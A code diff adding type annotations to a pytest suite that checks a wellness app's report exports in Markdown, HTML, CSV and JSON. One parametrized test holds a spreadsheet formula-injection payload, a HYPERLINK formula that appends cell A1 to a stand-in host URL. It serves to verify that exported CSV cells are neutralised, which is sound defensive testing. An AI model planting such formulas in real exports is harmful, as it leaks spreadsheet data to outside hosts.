@@ -9,13 +9,15 @@ import json
 import re
 from datetime import date, datetime, timedelta
 from html.parser import HTMLParser
+from pathlib import Path
 
 import pytest
 from benchmarks.synthetic import make_profile
 from markdown_it import MarkdownIt
 
-from wellness_tui.profile.models import CareQuestion, LogEntry, Treatment
-from wellness_tui.report.build import build_report
+from wellness_tui.library import Library
+from wellness_tui.profile.models import CareQuestion, LogEntry, Profile, Treatment
+from wellness_tui.report.build import Report, build_report
 from wellness_tui.report.formats import render
 
 END = date(2026, 11, 25)
@@ -24,7 +26,7 @@ NASTY = 'Dose < 10 & "felt odd", [b]not bold[/b] | pipe, comma\nsecond line # no
 
 
 @pytest.fixture
-def profile(library):
+def profile(library: Library) -> Profile:
     profile = make_profile(120, today=END, library=library, habits=6)
     profile.log, profile.questions, profile.treatments = [], [], []  # only this test's entries
     profile.log.append(
@@ -62,11 +64,11 @@ def profile(library):
     return profile
 
 
-def report_of(profile, library, **include):
+def report_of(profile: Profile, library: Library, **include: bool) -> Report:
     return build_report(profile, library, START, END, datetime(2026, 11, 25, 18, 5), **include)
 
 
-def test_averages_counts_and_entries(profile, library) -> None:
+def test_averages_counts_and_entries(profile: Profile, library: Library) -> None:
     report = report_of(profile, library)
     in_range = [c for d, c in profile.checkins.items() if START <= d <= END]
     moods = [c.mood for c in in_range if c.mood is not None]
@@ -83,7 +85,7 @@ def test_averages_counts_and_entries(profile, library) -> None:
     assert report.habits[0].done == done
 
 
-def test_markdown_shows_typed_text_exactly(profile, library) -> None:
+def test_markdown_shows_typed_text_exactly(profile: Profile, library: Library) -> None:
     text = render(report_of(profile, library), "md")
     assert "Period:** 28 August 2026 to 25 November 2026 (90 days, inclusive)" in text
     assert "Made:** 25 November 2026 at 18:05" in text
@@ -96,7 +98,7 @@ def test_markdown_shows_typed_text_exactly(profile, library) -> None:
     assert "PRIVATE" not in text and "note Dose" not in text  # notes are left out
 
 
-def test_html_parses_and_shows_typed_text_exactly(profile, library) -> None:
+def test_html_parses_and_shows_typed_text_exactly(profile: Profile, library: Library) -> None:
     text = render(report_of(profile, library, include_notes=True), "html")
 
     class Collect(HTMLParser):
@@ -105,18 +107,18 @@ def test_html_parses_and_shows_typed_text_exactly(profile, library) -> None:
             self.text: list[str] = []
             self.stack: list[str] = []
 
-        def handle_starttag(self, tag, attrs) -> None:
+        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
             if tag not in ("br", "meta"):  # void elements
                 self.stack.append(tag)
 
-        def handle_startendtag(self, tag, attrs) -> None:
+        def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
             pass  # <rect .../>: opened and closed at once
 
-        def handle_endtag(self, tag) -> None:
+        def handle_endtag(self, tag: str) -> None:
             assert self.stack and self.stack[-1] == tag, f"unbalanced </{tag}>"
             self.stack.pop()
 
-        def handle_data(self, data) -> None:
+        def handle_data(self, data: str) -> None:
             self.text.append(data)
 
     parser = Collect()
@@ -130,7 +132,7 @@ def test_html_parses_and_shows_typed_text_exactly(profile, library) -> None:
     assert "PRIVATE Dose" in plain  # included on request
 
 
-def test_csv_and_json_carry_the_raw_rows(profile, library) -> None:
+def test_csv_and_json_carry_the_raw_rows(profile: Profile, library: Library) -> None:
     report = report_of(profile, library)
     rows = list(csv.DictReader(io.StringIO(render(report, "csv"))))
     moods = [r for r in rows if r["section"] == "checkin" and r["item"] == "mood"]
@@ -145,7 +147,7 @@ def test_csv_and_json_carry_the_raw_rows(profile, library) -> None:
     assert data["averages"]["mood"]["average"] == pytest.approx(report.measures[0].average)
 
 
-def test_reflections_only_when_asked(profile, library) -> None:
+def test_reflections_only_when_asked(profile: Profile, library: Library) -> None:
     profile.answers["rest-rhythm/what-helps"].text = "UNIQUE-REFLECTION [x]"
     without = render(report_of(profile, library), "md")
     assert "UNIQUE-REFLECTION" not in without and "## My reflections" not in without
@@ -154,7 +156,7 @@ def test_reflections_only_when_asked(profile, library) -> None:
     assert "UNIQUE-REFLECTION \\[x\\]" in with_reflections
 
 
-def test_report_from_the_shell_writes_a_private_file(tmp_path, profile) -> None:
+def test_report_from_the_shell_writes_a_private_file(tmp_path: Path, profile: Profile) -> None:
     import os
     import stat
     import subprocess
@@ -215,7 +217,7 @@ def test_report_from_the_shell_writes_a_private_file(tmp_path, profile) -> None:
 
 @pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
 def test_18_csv_cells_that_a_spreadsheet_would_run_get_a_leading_quote(
-    profile, library, start
+    profile: Profile, library: Library, start: str
 ) -> None:
     formula = start + 'HYPERLINK("http://x.example/?"&A1,"click")'
     profile.habits[0].title = formula
